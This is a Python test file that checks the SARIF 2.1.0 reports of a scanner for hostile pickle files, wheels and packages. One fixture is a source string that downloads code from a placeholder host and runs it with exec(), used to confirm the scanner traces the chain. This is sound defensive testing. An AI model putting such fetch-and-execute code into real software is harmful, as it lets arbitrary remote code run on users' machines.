#!/usr/bin/env python3
"""SARIF 2.1.0, by the parts of its text that we use; sarif_interop.py asks the schema itself."""

import json
import re
import zipfile
from urllib.parse import unquote

from _tap import BENIGN, HELD, HOSTILE, ROOT, STAND_IN, equal, folder, main, run, test

# OASIS SARIF 2.1.0: sections 3.13 (log), 3.14 (run), 3.19 (toolComponent), 3.24 (artifact),
# 3.27 (result), 3.28 (location), 3.29 (physicalLocation), 3.30 (region), 3.49 (descriptor)
ALLOWED = {
    "log": {"$schema", "version", "runs"},
    "run": {"tool", "columnKind", "results", "artifacts", "invocations", "properties"},
    "driver": {"name", "version", "semanticVersion", "rules"},
    "rule": {"id", "name", "shortDescription", "fullDescription", "help", "helpUri",
             "defaultConfiguration", "properties"},
    "result": {"ruleId", "ruleIndex", "level", "message", "locations", "occurrenceCount",
               "stacks", "codeFlows", "suppressions", "properties"},
    "artifact": {"location", "length", "hashes", "properties"},
    "region": {"startLine", "startColumn", "byteOffset", "byteLength"},
}
LEVELS = {"none", "note", "warning", "error"}
URI = re.compile(r"^(file:///)?([A-Za-z0-9._~/-]|%[0-9A-F]{2})*$")


def keys(value, kind):
    assert set(value) <= ALLOWED[kind], f"{kind}: {set(value) - ALLOWED[kind]}"


def text_of(message):
    equal(set(message), {"text"}, "a message")
    assert message["text"], "a message says something"
    return message["text"]


def check(log):
    keys(log, "log")
    equal(log["version"], "2.1.0")
    assert log["$schema"].endswith("/sarif-schema-2.1.0.json")
    (run_,) = log["runs"]
    keys(run_, "run")
    driver = run_["tool"]["driver"]
    keys(driver, "driver")
    ids = [r["id"] for r in driver["rules"]]
    equal(len(set(ids)), len(ids), "ids are unique")
    for rule in driver["rules"]:
        keys(rule, "rule")
        for part in ("shortDescription", "fullDescription", "help"):
            text_of(rule[part])
        assert rule["defaultConfiguration"]["level"] in LEVELS
        assert re.fullmatch(r"[0-9]+\.[0-9]", rule["properties"]["security-severity"])
    for artifact in run_["artifacts"]:
        keys(artifact, "artifact")
        assert URI.match(artifact["location"]["uri"]), artifact
        assert artifact["length"] >= 0
    for result in run_["results"]:
        check_result(result, ids, run_["artifacts"])
    equal(run_["invocations"][0]["executionSuccessful"], True)


def check_result(result, ids, artifacts):
    keys(result, "result")
    equal(ids[result["ruleIndex"]], result["ruleId"], "the index is the rule's")
    assert result["level"] in LEVELS
    text_of(result["message"])
    assert result["occurrenceCount"] >= 1
    (location,) = result["locations"]
    at = location["physicalLocation"]["artifactLocation"]
    equal(artifacts[at["index"]]["location"]["uri"], at["uri"], "the index is the artifact's")
    region = location["physicalLocation"].get("region", {})
    keys(region, "region")
    assert region.get("startLine", 1) >= 1 and region.get("startColumn", 1) >= 1
    assert region.get("byteOffset", 0) >= 0
    for logical in location.get("logicalLocations", []):
        equal(set(logical), {"fullyQualifiedName", "kind"}, "a logical location")
        if logical["kind"] == "resource":
            assert not region, "offsets of a member mean nothing in the file outside"
            assert "!/" in logical["fullyQualifiedName"], logical
        else:
            equal(logical["kind"], "function")
    for suppression in result.get("suppressions", []):
        equal(set(suppression), {"kind", "justification"}, "a suppression")
        assert suppression["kind"] in ("inSource", "external"), suppression
    for stack in result.get("stacks", []):
        equal(set(stack), {"frames"}, "a stack")
        assert stack["frames"]
        for frame in stack["frames"]:
            check_frame(frame)
    for flow in result.get("codeFlows", []):
        (thread,) = flow["threadFlows"]
        equal((set(flow), set(thread)), ({"threadFlows"}, {"locations"}), "a flow")
        assert thread["locations"]
        for step in thread["locations"]:
            equal(set(step), {"location"}, "a step")
            text_of(step["location"]["message"])


def check_frame(frame):
    """3.45: the location of a call; its file is relative where it is of the wheel."""
    equal(set(frame), {"location"}, "a frame")
    physical = frame["location"]["physicalLocation"]
    assert URI.match(physical["artifactLocation"]["uri"]), physical
    assert physical.get("region", {"startLine": 1})["startLine"] >= 1
    (logical,) = frame["location"]["logicalLocations"]
    equal(logical["kind"], "function")


def sarif(*args, **kw):
    log = json.loads(run("scan", "-f", "sarif", *args, **kw).stdout.decode())
    check(log)
    return log["runs"][0]


@test
def sarif_of_every_verdict():
    with folder(good_pkl=BENIGN, bad_pkl=HOSTILE, held_pkl=HELD, empty_pkl=b"") as d:
        run_ = sarif("--sha256", ".", cwd=d)
        equal({a["location"]["uri"].split("/")[-1]: a["properties"]["verdict"]
               for a in run_["artifacts"]},
              {"good.pkl": "admit", "bad.pkl": "refuse", "held.pkl": "hold",
               "empty.pkl": "undecided"})
        equal({a["hashes"]["sha-256"] is not None for a in run_["artifacts"]}, {True})
        levels = {run_["artifacts"][r["locations"][0]["physicalLocation"]["artifactLocation"]["index"]]
                  ["location"]["uri"].split("/")[-1]: r["level"]
                  for r in reversed(run_["results"])}
        equal(levels["bad.pkl"], "error")
        equal(levels["held.pkl"], "warning")
        equal(levels["empty.pkl"], "warning")
        equal(run_["invocations"][0]["properties"]["verdict"], "refuse")


@test
def sarif_of_an_empty_folder():
    with folder() as d:
        run_ = sarif(str(d))
        equal([r["level"] for r in run_["results"]], ["warning"])


@test
def sarif_of_nested_members():
    with folder() as d:
        with zipfile.ZipFile(d / "upload.zip", "w") as z:
            z.writestr("a b/evil.pkl", HOSTILE)
        run_ = sarif("upload.zip", cwd=d)
        names = {loc["fullyQualifiedName"] for r in run_["results"]
                 for loc in r["locations"][0].get("logicalLocations", [])}
        assert any(n.endswith("upload.zip!/a b/evil.pkl") for n in names), names


@test
def sarif_names_files_by_uri():
    names = ["a b#c?d.pkl", "100%.pkl", "x:y.pkl", "\u00fc.pkl", "[1].pkl", "q\"uote'.pkl"]
    with folder() as d:
        for name in names:
            (d / name).write_bytes(HOSTILE)
        found = {unquote(a["location"]["uri"]).split("/")[-1] for a in sarif(str(d))["artifacts"]}
        equal(found, set(names))
        (uri,) = {a["location"]["uri"] for a in sarif("x:y.pkl", cwd=d)["artifacts"]}
        assert ":" not in uri, "or x would be a scheme"
        (uri,) = {a["location"]["uri"] for a in sarif(str(d / "100%.pkl"))["artifacts"]}
        assert uri.startswith("file:///"), uri


@test
def sarif_of_watches():
    for wheel in ("guilty.whl", "clean.whl", "hostile.whl"):
        done = run("watch", "-f", "sarif", wheel, program=STAND_IN)
        log = json.loads(done.stdout.decode())
        check(log)
        equal(log["runs"][0]["artifacts"][0]["properties"]["verdict"],
              "admit" if wheel == "clean.whl" else "refuse")
    log = json.loads(run("watch", "-f", "sarif", "guilty.whl", program=STAND_IN).stdout.decode())
    result = log["runs"][0]["results"][0]
    at = result["stacks"][0]["frames"][1]["location"]["physicalLocation"]
    equal(at, {"artifactLocation": {"uri": "mistralai/client/__init__.py"},
               "region": {"startLine": 22}})
    equal([e["kind"] for e in result["properties"]["events"]], ["exec"])


@test
def sarif_of_a_package_has_its_chain():
    source = b"import requests\n\n\ndef f():\n    exec(requests.get('https://c.example.com').text)\n\n\nf()\n"
    with folder(a_py=source) as d:
        results = sarif("--policy", "package", "a.py", cwd=d)["results"]
    flow = [r for r in results if r["ruleId"] == "PKG001"][0]["codeFlows"][0]
    steps = [s["location"]["message"]["text"] for s in flow["threadFlows"][0]["locations"]]
    equal(steps, ["a.py:8", "f (5)", "requests.get"])


@test
def sarif_of_the_golden_files():
    golden = ROOT / "tests/golden"
    if golden.is_dir():
        sarif(str(golden))


main()
